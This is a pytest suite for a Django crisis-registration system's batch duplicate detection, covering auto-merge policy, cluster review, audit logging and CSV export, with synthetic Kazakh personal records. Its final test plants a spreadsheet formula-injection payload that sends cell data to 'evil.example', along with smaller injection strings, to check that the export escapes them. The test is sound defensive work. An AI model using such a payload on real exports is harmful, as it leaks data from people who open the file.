"""Batch linkage over a whole crisis through the CLI, the API and the queue page: what the
check at registration cannot see (a name spelled otherwise, a birth date mistyped), merged
automatically only by policy and only on an exact identifier, and exported for analysis."""

from __future__ import annotations

import csv
import io
import json
import random
import re
from datetime import date, timedelta
from typing import Any

import pytest
from django.core.management import call_command

from aman.core.models import AuditEntry
from aman.core.roles import Role
from aman.dedup.models import CandidatePair, LinkageRun, Merge
from aman.registry.models import Person
from aman.registry.services import Submission, registrations_submit
from tests.conftest import World

SURNAMES = [
    "Ахметов", "Бекова", "Серикбаев", "Касымова", "Нурланов", "Абдрахманова", "Тулегенов",
    "Жаксылыкова", "Омаров", "Садыкова", "Искаков", "Мухамедиева", "Байжанов", "Кенжебаева",
    "Сулейменов", "Есенова", "Рахимов", "Турсынова", "Амангельдиев", "Калиева",
]  # fmt: skip
GIVEN = [
    "Айдос", "Мадина", "Ерлан", "Гульнара", "Данияр", "Асель", "Бауыржан", "Жанар", "Ержан",
    "Салтанат", "Нуржан", "Айгерим", "Канат", "Динара", "Арман", "Камила", "Тимур", "Алия",
]  # fmt: skip


def _member(surname: str, given: str, born: date, **extra: Any) -> dict[str, Any]:
    return {"surname": surname, "given_names": given, "birth_date": born.isoformat(), **extra}


def _submit(world: World, members: list[dict[str, Any]], channel: str = "hotline") -> None:
    outcomes = registrations_submit(
        crisis=world.crisis,
        submissions=[
            Submission(
                channel=channel,
                payload={"members": [m], "location": {"country": "IR"}, "consent": True},
            )
            for m in members
        ],
    )
    assert all(o.accepted for o in outcomes), [o.problems for o in outcomes if not o.accepted]


@pytest.fixture
def crowd(world: World) -> dict[str, Any]:
    """300 people with common Kazakh names — 40 of them with the very names of another
    (born years apart), none the same person — then three people registered again in ways
    the check at registration cannot see."""
    rng = random.Random(7)
    combos = rng.sample([(s, g) for s in SURNAMES for g in GIVEN], 260)
    members = []
    for i in range(300):
        if i < 260:
            surname, given = combos[i]
            born = date(1950, 1, 1) + timedelta(days=rng.randrange(20_000))
        else:
            twin = members[i - 260]
            surname, given = twin["surname"], twin["given_names"]
            # Born three years, five months and ten days later: no digit slip away.
            born = date.fromisoformat(twin["birth_date"]) + timedelta(days=1_255)
        members.append(
            _member(
                surname,
                given,
                born,
                phones=[f"+7 701 {i:03d} {rng.randrange(100):02d} {rng.randrange(100):02d}"],
            )
        )
    # 1. A passport holder, again with the same passport and a mistyped birth date, in
    #    passport Latin.
    members.append(
        _member("Жұмабек", "Нұрлан", date(1954, 3, 2), documents=[{"number": "N12345678"}])
    )
    # 2. A phone holder, again with the same phone, her given name spelled otherwise.
    members.append(_member("Байтұрсынова", "Гүлжан", date(1988, 11, 23), phones=["+77015550101"]))
    # 3. A woman registered twice by name only, the day and month swapped.
    members.append(_member("Сәрсенбаева", "Ақмарал", date(1979, 4, 11)))
    _submit(world, members)
    again = [
        _member("ZHUMABEK", "NURLAN", date(1954, 2, 3), documents=[{"number": "N 1234 5678"}]),
        _member("Baitursynova", "Gulzhana", date(1988, 11, 23), phones=["8 701 555 01 01"]),
        _member("Сарсенбаева", "Акмарал", date(1979, 11, 4)),
    ]
    _submit(world, again, channel="import")
    CandidatePair.objects.all().delete()  # what the check at registration found, if anything
    people = {
        key: sorted(Person.objects.filter(given_names__in=names).values_list("pk", flat=True))
        for key, names in {
            "passport": ["Нұрлан", "NURLAN"],
            "phone": ["Гүлжан", "Gulzhana"],
            "names": ["Ақмарал", "Акмарал"],
        }.items()
    }
    return people


def _pairs() -> set[tuple[int, int]]:
    return set(CandidatePair.objects.values_list("person_a", "person_b"))


def test_the_cli_run_finds_what_registration_could_not_and_proposes_no_stranger(
    world: World, crowd: dict[str, Any]
) -> None:
    out, err = io.StringIO(), io.StringIO()
    call_command("dedup", "run", "--crisis", str(world.crisis.pk), stdout=out, stderr=err)
    run = LinkageRun.objects.get()
    # Progress while it runs, phase by phase, in words.
    lines = err.getvalue().splitlines()
    for phase in ("estimating the model from the data", "building clusters", "keeping the pairs"):
        assert any(phase in line and "%" in line for line in lines), lines
    assert run.status == "done", run.error
    assert run.records == Person.objects.filter(crisis=world.crisis).count()
    found = _pairs()
    assert tuple(crowd["passport"]) in found
    assert tuple(crowd["phone"]) in found
    # Strangers with the same common names are not proposed: every pair found is one of
    # the planted ones (or the world's own two Сейітов Марат).
    planted = {tuple(v) for v in crowd.values()} | {
        tuple(sorted((world.people["IR"], world.people["IQ"])))
    }
    assert found <= planted, found - planted
    assert f"{run.records} people, {run.pairs_found} possible duplicate pairs" in out.getvalue()
    pair = CandidatePair.objects.get(person_a=crowd["passport"][0])
    assert pair.found_by == "batch" and pair.run == run and pair.match_weight > 10
    assert "document" in pair.evidence
    words = pair.explanation_text()
    assert words[0].startswith("Document number: the same (+"), words
    assert any(w.startswith("Birth date: two digits, or day and month, swapped") for w in words)
    assert AuditEntry.objects.filter(verb="linkage_run_finish", object_id=str(run.pk)).exists()


def test_a_rejected_pair_is_never_proposed_again(world: World, crowd: dict[str, Any]) -> None:
    call_command("dedup", "run", "--crisis", str(world.crisis.pk), stdout=io.StringIO())
    pair = CandidatePair.objects.get(person_a=crowd["phone"][0])
    response = world.api(Role.OPERATOR).post(f"/api/duplicates/{pair.pk}/reject")
    assert response.status_code == 200
    call_command("dedup", "run", "--crisis", str(world.crisis.pk), stdout=io.StringIO())
    pair.refresh_from_db()
    assert pair.status == "rejected"
    assert CandidatePair.objects.filter(person_a=crowd["phone"][0]).count() == 1
    assert LinkageRun.objects.latest("id").pairs_new == 0


def test_the_policy_merges_exact_identifiers_automatically_and_never_names_alone(
    world: World, crowd: dict[str, Any], django_capture_on_commit_callbacks: Any
) -> None:
    manager = world.api(Role.CRISIS_MANAGER)
    refused = manager.put(
        f"/api/duplicates/policy?crisis={world.crisis.pk}",
        data=json.dumps({"auto_merge": True, "auto_merge_probability": 0.5}),
        content_type="application/json",
    )
    assert refused.status_code == 422
    response = manager.put(
        f"/api/duplicates/policy?crisis={world.crisis.pk}",
        data=json.dumps({"auto_merge": True, "auto_merge_probability": 0.99}),
        content_type="application/json",
    )
    assert response.status_code == 200, response.content
    with django_capture_on_commit_callbacks(execute=True):
        started = world.api(Role.OPERATOR).post(f"/api/duplicates/runs?crisis={world.crisis.pk}")
    assert started.status_code == 202, started.content
    run = world.api(Role.OPERATOR).get(f"/api/duplicates/runs/{started.json()['id']}").json()
    assert run["status"] == "done" and run["auto_merged"] >= 1
    merge = Merge.objects.get(absorbed=crowd["passport"][1])
    assert merge.automatic and merge.survivor_id == crowd["passport"][0]
    # The pair found by names alone waits for an officer.
    assert not Merge.objects.filter(absorbed=crowd["names"][1]).exists()
    # An automatic merge is undone like any other.
    undo = world.api(Role.OPERATOR).post(f"/api/merges/{merge.pk}/undo")
    assert undo.status_code == 200
    # ...and stays undone: the next run leaves the pair to the officers.
    call_command("dedup", "run", "--crisis", str(world.crisis.pk), stdout=io.StringIO())
    assert Merge.objects.filter(undone_at__isnull=True).count() == 0
    assert Person.objects.filter(pk=crowd["passport"][1]).exists()


def test_the_export_has_one_row_per_intake_record_with_its_person_and_cluster(
    world: World, crowd: dict[str, Any], tmp_path: Any
) -> None:
    call_command("dedup", "run", "--crisis", str(world.crisis.pk), stdout=io.StringIO())
    pair = CandidatePair.objects.get(person_a=crowd["passport"][0])
    world.api(Role.OPERATOR).post(
        f"/api/duplicates/{pair.pk}/merge", data="{}", content_type="application/json"
    )
    target = tmp_path / "clusters.csv"
    out = io.StringIO()
    call_command(
        "dedup", "export", "--crisis", str(world.crisis.pk), "--out", str(target), stdout=out
    )
    rows = list(csv.DictReader(target.open(encoding="utf-8")))
    assert f"{len(rows)} intake records written" in out.getvalue()
    assert len(rows) == Person.all_objects.filter(crisis=world.crisis).count()
    survivor, absorbed = crowd["passport"]
    theirs = [r for r in rows if r["person"] == str(survivor)]
    assert len(theirs) == 2, "both registrations belong to the person now"
    codes = dict(Person.all_objects.values_list("pk", "reference_code"))
    assert {r["registered_as"] for r in theirs} == {"", codes[absorbed]}
    assert {r["channel"] for r in theirs} == {"hotline", "import"}
    phone = [r for r in rows if r["person"] in {str(p) for p in crowd["phone"]}]
    assert len({r["cluster"] for r in phone}) == 1 and phone[0]["cluster"]
    assert "Жұмабек" not in target.read_text(encoding="utf-8"), "no names in the export"
    assert AuditEntry.objects.filter(verb="clusters_export", action="export").exists()


def test_the_queue_page_starts_a_run_and_explains_the_weight(
    world: World, crowd: dict[str, Any], django_capture_on_commit_callbacks: Any
) -> None:
    client = world.client(Role.OPERATOR)
    page = client.get("/people/duplicates/").content.decode()
    assert "Find duplicates among everyone registered" in page
    with django_capture_on_commit_callbacks(execute=True):
        response = client.post("/people/duplicates/runs/")
    assert response.status_code == 302
    response = client.get(response["Location"])
    html = response.content.decode()
    assert "Done" in html and "Match weight" in html
    pair = CandidatePair.objects.get(person_a=crowd["passport"][0])
    assert f"cluster={pair.cluster}" in html
    one = client.get(f"/people/duplicates/?cluster={pair.cluster}").content.decode()
    assert f'id="pair-{pair.pk}"' in one and "Showing cluster" in one
    # Every record of the cluster side by side, the rows where they disagree marked.
    table = one.split(f'id="cluster-{pair.cluster}"', 1)[1].split("</section>", 1)[0]
    members = Person.objects.filter(
        pk__in={
            p
            for a, b in CandidatePair.objects.filter(cluster=pair.cluster).values_list(
                "person_a", "person_b"
            )
            for p in (a, b)
        }
    )
    assert f"{members.count()} records in this cluster" in table
    for person in members:
        assert person.reference_code_display in table
    assert 'class="table-warning"' in table, "the two records differ somewhere"
    audit = AuditEntry.objects.filter(verb="candidate_list").latest("id")
    assert audit.changes["cluster"] == pair.cluster


def test_the_api_queue_carries_the_weight_its_reasons_in_words_and_the_cluster(
    world: World, crowd: dict[str, Any]
) -> None:
    call_command("dedup", "run", "--crisis", str(world.crisis.pk), stdout=io.StringIO())
    pair = CandidatePair.objects.get(person_a=crowd["passport"][0])
    api = world.api(Role.OPERATOR)
    body = api.get("/api/duplicates", {"crisis": world.crisis.pk}).json()
    item = next(i for i in body["items"] if i["id"] == pair.pk)
    assert item["match_weight"] == pytest.approx(pair.match_weight) and item["match_weight"] > 10
    assert item["explanation"] == pair.explanation_text()
    assert item["explanation"][0].startswith("Document number: the same (+")
    assert item["cluster"] == pair.cluster
    one = api.get("/api/duplicates", {"crisis": world.crisis.pk, "cluster": pair.cluster}).json()
    assert [i["id"] for i in one["items"]] == [
        p.pk for p in CandidatePair.objects.filter(cluster=pair.cluster).order_by("-score", "-id")
    ]
    assert one["count"] < body["count"]
    export = world.api(Role.CRISIS_MANAGER).get(
        "/api/duplicates/clusters.csv", {"crisis": world.crisis.pk}
    )
    assert export.status_code == 200 and export["Content-Type"].startswith("text/csv")
    rows = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert {r["cluster"] for r in rows if r["person"] == str(pair.person_a_id)} == {
        str(pair.cluster)
    }
    assert AuditEntry.objects.filter(verb="clusters_export", via="api").exists()
    none = api.get("/api/duplicates", {"crisis": world.crisis.pk, "cluster": "x"})
    assert none.status_code == 422 and "cluster" in str(none.json()["extra"])


def test_the_cli_says_what_is_wrong(world: World) -> None:
    from django.core.management.base import CommandError

    with pytest.raises(CommandError, match="No crisis 'nowhere'"):
        call_command("dedup", "run", "--crisis", "nowhere")


def _page(world: World, persona: str = Role.OPERATOR) -> str:
    return world.client(persona).get("/people/duplicates/").content.decode()


def test_a_run_that_lost_its_process_is_shown_stopped_and_does_not_block_the_next(
    world: World,
) -> None:
    from django.utils import timezone

    from aman.dedup.batch import STALLED

    now = timezone.now()
    stuck = LinkageRun.objects.create(
        crisis=world.crisis, status="running", phase="predict", progress=0.5, heartbeat_at=now
    )
    api = world.api(Role.OPERATOR)
    busy = api.post(f"/api/duplicates/runs?crisis={world.crisis.pk}")
    assert busy.status_code == 409
    assert busy.json()["message"] == "A linkage run of this crisis is already under way."
    page = _page(world)
    assert "50% · scoring candidate pairs" in page
    assert "Find duplicates among everyone registered" not in page, "one run at a time"
    # Its process was killed (out of memory, a restart): the heartbeat stops. Minutes later
    # — not hours — the page says it stopped and offers a new run.
    LinkageRun.objects.filter(pk=stuck.pk).update(heartbeat_at=now - STALLED - timedelta(seconds=5))
    page = _page(world)
    assert '<span class="badge text-bg-warning" id="run-status">Stopped</span>' in page
    minutes = int(STALLED.total_seconds() // 60)
    assert f"its process gave no sign of life for {minutes} minutes" in page
    assert "Find duplicates among everyone registered" in page
    stuck.refresh_from_db()
    assert (stuck.status, stuck.failure) == ("failed", "stalled")
    assert stuck.error_detail.startswith("no heartbeat since"), "the detail, for the admin"
    assert AuditEntry.objects.filter(verb="linkage_run_finish", object_id=str(stuck.pk)).exists()
    shown = api.get(f"/api/duplicates/runs/{stuck.pk}").json()
    assert shown["status"] == "failed" and shown["failure"] == "stalled"
    assert shown["error"].startswith("The search stopped before it finished")
    again = api.post(f"/api/duplicates/runs?crisis={world.crisis.pk}")
    assert again.status_code == 202, again.content


def test_a_queued_run_no_worker_took_is_given_up(world: World) -> None:
    from django.utils import timezone

    from aman.dedup.batch import LOST

    lost = LinkageRun.objects.create(crisis=world.crisis)
    api = world.api(Role.OPERATOR)
    assert api.post(f"/api/duplicates/runs?crisis={world.crisis.pk}").status_code == 409
    LinkageRun.objects.filter(pk=lost.pk).update(created_at=timezone.now() - LOST)
    assert api.post(f"/api/duplicates/runs?crisis={world.crisis.pk}").status_code == 202
    lost.refresh_from_db()
    assert (lost.status, lost.failure) == ("failed", "lost")
    assert "no background worker took it" in lost.failure_text


@pytest.mark.parametrize("how", ["ctrl-c", "sigterm"])
def test_a_cli_run_stopped_by_hand_is_marked_failed_at_once(
    world: World, monkeypatch: pytest.MonkeyPatch, how: str
) -> None:
    import os
    import signal

    from django.core.management.base import CommandError

    import aman.dedup.linkage

    def stopped(*args: Any, **kwargs: Any) -> None:
        kwargs["progress"]("train", 0.3)
        if how == "ctrl-c":
            raise KeyboardInterrupt
        os.kill(os.getpid(), signal.SIGTERM)  # `kill`, a service manager stopping it

    monkeypatch.setattr(aman.dedup.linkage, "link", stopped)
    before = signal.getsignal(signal.SIGTERM)
    with pytest.raises(CommandError, match="was stopped; it is marked as failed"):
        call_command("dedup", "run", "--crisis", str(world.crisis.pk), stderr=io.StringIO())
    assert signal.getsignal(signal.SIGTERM) == before, "the handler is put back"
    run = LinkageRun.objects.get()
    assert (run.status, run.failure) == ("failed", "interrupted")
    page = _page(world)
    assert "Stopped" in page and "The search was stopped before it finished." in page
    assert "Find duplicates among everyone registered" in page, "no wait for a new run"
    started = world.api(Role.OPERATOR).post(f"/api/duplicates/runs?crisis={world.crisis.pk}")
    assert started.status_code == 202


def test_a_failed_run_says_so_in_words_and_keeps_the_exception_for_the_log(
    world: World,
    monkeypatch: pytest.MonkeyPatch,
    django_capture_on_commit_callbacks: Any,
    caplog: pytest.LogCaptureFixture,
) -> None:
    from django.core.management.base import CommandError

    import aman.dedup.linkage

    def broken(*args: Any, **kwargs: Any) -> None:
        raise ValueError("Binder Error: column sk_l not found")

    monkeypatch.setattr(aman.dedup.linkage, "link", broken)
    client = world.client(Role.OPERATOR)
    with django_capture_on_commit_callbacks(execute=True):
        client.post("/people/duplicates/runs/")
    run = LinkageRun.objects.get()
    assert (run.status, run.failure) == ("failed", "error")
    assert run.error_detail == "ValueError: Binder Error: column sk_l not found"
    assert "Binder Error" in caplog.text, "the traceback is in the log"
    page = client.get("/people/duplicates/").content.decode()
    assert "The search stopped on an error. Start it again" in page
    assert "Binder" not in page and "ValueError" not in page
    body = world.api(Role.OPERATOR).get(f"/api/duplicates/runs/{run.pk}").json()
    assert body["error"].startswith("The search stopped on an error") and "Binder" not in str(body)
    # The command line is the administrator's: the headline and the detail.
    with pytest.raises(CommandError, match=r"failed: The search stopped on an error.*\(ValueError"):
        call_command("dedup", "run", "--crisis", str(world.crisis.pk), stderr=io.StringIO())


def test_a_run_marked_failed_while_it_still_works_stops_and_writes_nothing(
    world: World, crowd: dict[str, Any], monkeypatch: pytest.MonkeyPatch
) -> None:
    from django.core.management.base import CommandError

    import aman.dedup.linkage

    real = aman.dedup.linkage.link

    def slow(*args: Any, **kwargs: Any) -> Any:
        result = real(*args, **kwargs)
        # Meanwhile its heartbeat was judged lost and a new run started.
        LinkageRun.objects.update(status="failed", failure="stalled")
        return result

    monkeypatch.setattr(aman.dedup.linkage, "link", slow)
    with pytest.raises(CommandError, match="gave no sign of life"):
        call_command("dedup", "run", "--crisis", str(world.crisis.pk), stderr=io.StringIO())
    run = LinkageRun.objects.get()
    assert (run.status, run.failure) == ("failed", "stalled")
    assert not CandidatePair.objects.exists(), "a superseded run keeps no pairs"


def test_the_progress_is_polled_without_reloading_the_page(world: World) -> None:
    from django.utils import timezone

    run = LinkageRun.objects.create(
        crisis=world.crisis,
        status="running",
        phase="train",
        progress=0.25,
        heartbeat_at=timezone.now(),
    )
    client = world.client(Role.OPERATOR)
    page = client.get("/people/duplicates/").content.decode()
    assert 'http-equiv="refresh"' not in page, "the page does not reload itself"
    assert 'hx-get="/people/duplicates/" hx-trigger="every 3s"' in page
    # Without JavaScript: a plain link.
    assert '<noscript><p class="small mb-0 mt-1"><a href="/people/duplicates/"' in page
    reads = AuditEntry.objects.filter(verb="candidate_list").count()
    part = client.get("/people/duplicates/", HTTP_HX_REQUEST="true").content.decode()
    assert part.startswith('<div id="linkage-run" hx-get=') and "25% · estimating the model" in part
    assert "<html" not in part and "pair-" not in part
    assert AuditEntry.objects.filter(verb="candidate_list").count() == reads, "no personal data"
    LinkageRun.objects.filter(pk=run.pk).update(status="done", records=7, pairs_found=3)
    part = client.get("/people/duplicates/", HTTP_HX_REQUEST="true").content.decode()
    assert "hx-trigger" not in part, "polling stops"
    assert "7 people, 3 possible duplicate pairs" in part and "Show the pairs it found" in part


def test_a_new_run_rescores_open_pairs_and_clears_the_clusters_it_does_not_confirm(
    world: World, crowd: dict[str, Any]
) -> None:
    from django.utils import timezone

    operator = world.users[Role.OPERATOR]
    a, b = crowd["passport"]
    # What the check at registration kept (scored its own way), carrying an older run's
    # cluster number.
    intake = CandidatePair.objects.create(
        crisis=world.crisis, person_a_id=a, person_b_id=b, score=70, evidence=["names"]
    )
    planted = {p for v in crowd.values() for p in v} | set(world.people.values())
    x, y, z = Person.objects.filter(crisis=world.crisis).exclude(pk__in=planted).order_by("pk")[:3]
    # Strangers an older run put in cluster 4242: one pair still open, one an officer closed.
    stale_open = CandidatePair.objects.create(
        crisis=world.crisis, person_a=x, person_b=y, score=91, evidence=["names"],
        found_by="batch", match_weight=3.0, cluster=4242,
    )  # fmt: skip
    stale_rejected = CandidatePair.objects.create(
        crisis=world.crisis, person_a=x, person_b=z, score=92, evidence=["names"],
        found_by="batch", match_weight=4.0, cluster=4242, status="rejected",
        decided_by=operator, decided_at=timezone.now(),
    )  # fmt: skip
    CandidatePair.objects.filter(pk=intake.pk).update(cluster=4242)
    call_command("dedup", "run", "--crisis", str(world.crisis.pk), stdout=io.StringIO())
    run = LinkageRun.objects.get()
    intake.refresh_from_db()
    # The run's own scoring, whoever found the pair first.
    assert intake.found_by == "batch" and intake.run == run
    assert intake.evidence[0] == "document" and intake.evidence != ["names"]
    assert intake.score == round(intake.explanation["probability"] * 100) != 70
    assert intake.match_weight > 10 and intake.explanation["levels"]["document"] == "agree"
    assert intake.cluster is not None and intake.cluster != 4242
    assert run.pairs_new < run.pairs_found, "the known pair was not counted as new"
    # Not confirmed by this run: no cluster any more; the officer's decision stands as made.
    stale_open.refresh_from_db()
    assert (stale_open.status, stale_open.cluster, stale_open.score) == ("open", None, 91)
    stale_rejected.refresh_from_db()
    assert (stale_rejected.status, stale_rejected.decided_by) == ("rejected", operator)
    assert (stale_rejected.score, stale_rejected.match_weight) == (92, 4.0)
    assert stale_rejected.cluster is None
    api = world.api(Role.OPERATOR)
    for status in ("open", "rejected"):
        old = api.get(
            "/api/duplicates", {"crisis": world.crisis.pk, "cluster": 4242, "status": status}
        )
        assert old.json()["count"] == 0
    page = world.client(Role.OPERATOR).get("/people/duplicates/?cluster=4242").content.decode()
    assert "in this cluster, side by side" not in page and "Nothing to review." in page


def test_a_whole_cluster_is_rejected_or_put_off_but_merged_only_pair_by_pair(
    world: World, crowd: dict[str, Any]
) -> None:
    # The passport holder a third time: three records, three pairs, one cluster.
    _submit(
        world,
        [_member("Жумабек", "Нурлан", date(1954, 3, 2), documents=[{"number": "N12345678"}])],
        channel="api",
    )
    call_command("dedup", "run", "--crisis", str(world.crisis.pk), stdout=io.StringIO())
    n = CandidatePair.objects.get(
        person_a=crowd["passport"][0], person_b=crowd["passport"][1]
    ).cluster
    ids = sorted(CandidatePair.objects.filter(cluster=n).values_list("pk", flat=True))
    assert len(ids) == 3
    client = world.client(Role.OPERATOR)
    page = client.get(f"/people/duplicates/?cluster={n}").content.decode()
    assert "3 records in this cluster" in page
    assert "reject the whole cluster" in page and "Decide later on the whole cluster" in page
    assert "There is no “merge all”: merge the pairs below one by one" in page
    assert (
        world.client(Role.OBSERVER).post(f"/people/duplicates/clusters/{n}/defer/").status_code
        == 403
    )
    response = client.post(f"/people/duplicates/clusters/{n}/defer/", follow=True)
    assert "Put aside: 3 pairs of cluster" in response.content.decode()
    assert set(CandidatePair.objects.filter(pk__in=ids).values_list("status", flat=True)) == {
        "deferred"
    }
    entries = AuditEntry.objects.filter(verb="cluster_defer").order_by("object_id")
    assert sorted(int(e.object_id) for e in entries) == ids
    assert all(e.changes == {"status": ["open", "deferred"], "cluster": n} for e in entries)
    page = client.get(f"/people/duplicates/?cluster={n}").content.decode()
    assert "Decide later on the whole cluster" not in page, "nothing open left to put off"
    # The put-off pairs are closed: none of them is the same person.
    api = world.api(Role.OPERATOR)
    defer = api.post(f"/api/duplicates/clusters/{n}/defer?crisis={world.crisis.pk}")
    assert defer.status_code == 409
    response = client.post(f"/people/duplicates/clusters/{n}/reject/", follow=True)
    assert (
        f"Recorded for cluster {n}: 3 pairs closed as not the same person"
        in response.content.decode()
    )
    assert set(CandidatePair.objects.filter(pk__in=ids).values_list("status", flat=True)) == {
        "rejected"
    }
    assert AuditEntry.objects.filter(verb="cluster_reject", via="web").count() == 3
    again = api.post(f"/api/duplicates/clusters/{n}/reject?crisis={world.crisis.pk}")
    assert again.status_code == 409
    assert again.json() == {
        "message": "Nothing is left to decide in this cluster.",
        "extra": {"cluster": n},
    }
    page = client.get(f"/people/duplicates/?cluster={n}&status=rejected").content.decode()
    assert 'id="cluster-actions"' not in page
    # Never proposed again, nor put together again.
    call_command("dedup", "run", "--crisis", str(world.crisis.pk), stdout=io.StringIO())
    assert set(CandidatePair.objects.filter(pk__in=ids).values_list("status", flat=True)) == {
        "rejected"
    }
    assert LinkageRun.objects.latest("id").pairs_new == 0
    assert not CandidatePair.objects.filter(pk__in=ids, cluster__isnull=False).exists()


def test_reading_the_queue_through_the_api_is_audited_with_the_people_read(
    world: World, crowd: dict[str, Any]
) -> None:
    call_command("dedup", "run", "--crisis", str(world.crisis.pk), stdout=io.StringIO())
    api = world.api(Role.OPERATOR)
    body = api.get("/api/duplicates", {"crisis": world.crisis.pk, "limit": 1, "offset": 1}).json()
    assert body["count"] >= 2
    [item] = body["items"]
    entry = AuditEntry.objects.filter(verb="candidate_list").latest("id")
    assert (entry.action, entry.via, entry.actor) == ("read", "api", world.users[Role.OPERATOR])
    assert entry.crisis == world.crisis
    assert entry.changes["people"] == sorted([item["person_a"]["id"], item["person_b"]["id"]])
    assert (entry.changes["offset"], entry.changes["shown"], entry.changes["status"]) == (
        1,
        1,
        "open",
    )


def test_the_cli_says_what_is_wrong_with_an_export(world: World, tmp_path: Any) -> None:
    from django.core.management.base import CommandError

    crisis = str(world.crisis.pk)
    with pytest.raises(CommandError, match=r"Cannot write /no/such/dir/x\.csv: No such file"):
        call_command("dedup", "export", "--crisis", crisis, "--out", "/no/such/dir/x.csv")
    with pytest.raises(CommandError, match=re.escape(f"Cannot write {tmp_path}: Is a directory")):
        call_command("dedup", "export", "--crisis", crisis, "--out", str(tmp_path))
    with pytest.raises(CommandError, match="invalid choice: 'xlsx'"):
        call_command("dedup", "export", "--crisis", crisis, "--format", "xlsx")
    with pytest.raises(CommandError, match="No crisis 'nowhere'"):
        call_command("dedup", "export", "--crisis", "nowhere")
    LinkageRun.objects.create(crisis=world.crisis, status="queued")
    with pytest.raises(CommandError, match="already under way"):
        call_command("dedup", "run", "--crisis", crisis, stderr=io.StringIO())


def test_the_export_says_what_each_intake_record_was(
    world: World, crowd: dict[str, Any], tmp_path: Any
) -> None:
    person = crowd["names"][0]
    corrected = world.api(Role.OPERATOR).patch(
        f"/api/people/{person}",
        data=json.dumps({"intent": "stay"}),
        content_type="application/json",
    )
    assert corrected.status_code == 200, corrected.content
    target = tmp_path / "c.csv"
    call_command(
        "dedup", "export", "--crisis", str(world.crisis.pk), "--out", str(target),
        stdout=io.StringIO(),
    )  # fmt: skip
    rows = list(csv.DictReader(target.open(encoding="utf-8")))
    assert list(rows[0])[:4] == ["intake_record", "received_at", "channel", "kind"]
    theirs = sorted((r["channel"], r["kind"]) for r in rows if r["person"] == str(person))
    assert theirs == [("api", "correction"), ("hotline", "registration")]
    listed = [r for r in rows if r["person"] == str(crowd["names"][1])]
    assert [(r["channel"], r["kind"]) for r in listed] == [("import", "import")]


def test_the_export_writes_what_a_list_said_as_text_never_as_a_formula(
    world: World, tmp_path: Any
) -> None:
    """An imported list's source name and its references are free text: a spreadsheet
    would run a cell starting with = (or +, -, @) — the export writes such a cell with an
    apostrophe in front."""
    formula = '=HYPERLINK("http://evil.example/?leak="&A1,"open")'
    path = tmp_path / "list.csv"
    path.write_text(
        "ФИО;Дата рождения;Ticket\n"
        'Жумабекова Айгуль;15.07.1990;"' + formula.replace('"', '""') + '"\n',
        encoding="utf-8",
    )
    call_command(
        "import", str(path), "--crisis", world.crisis.code, "--source", "@SUM(1+1)",
        "--country", "IR", stdout=io.StringIO(),
    )  # fmt: skip
    registered = world.api(Role.OPERATOR).post(
        f"/api/registrations?crisis={world.crisis.pk}",
        data=json.dumps(
            {
                "members": [{"surname": "Омаров", "given_names": "Ерлан"}],
                "location": {"country": "IR"},
                "consent": True,
                "source_ref": "+1-2 cmd",
            }
        ),
        content_type="application/json",
    )
    assert registered.status_code == 201, registered.content
    target = tmp_path / "clusters.csv"
    call_command(
        "dedup", "export", "--crisis", str(world.crisis.pk), "--out", str(target),
        stdout=io.StringIO(),
    )  # fmt: skip
    rows = {r["intake_record"]: r for r in csv.DictReader(target.open(encoding="utf-8"))}
    imported = next(r for r in rows.values() if r["channel"] == "import")
    assert (imported["source"], imported["source_ref"]) == ("'@SUM(1+1)", "'" + formula)
    api_row = rows[str(registered.json()["intake_record"])]
    assert api_row["source_ref"] == "'+1-2 cmd"
    assert not any(
        cell.startswith(("=", "+", "-", "@")) for row in rows.values() for cell in row.values()
    )
    # The same through the API.
    export = world.api(Role.CRISIS_MANAGER).get(
        "/api/duplicates/clusters.csv", {"crisis": world.crisis.pk}
    )
    again = list(csv.DictReader(io.StringIO(export.content.decode())))
    assert {r["source_ref"] for r in again} >= {"'" + formula, "'+1-2 cmd"}
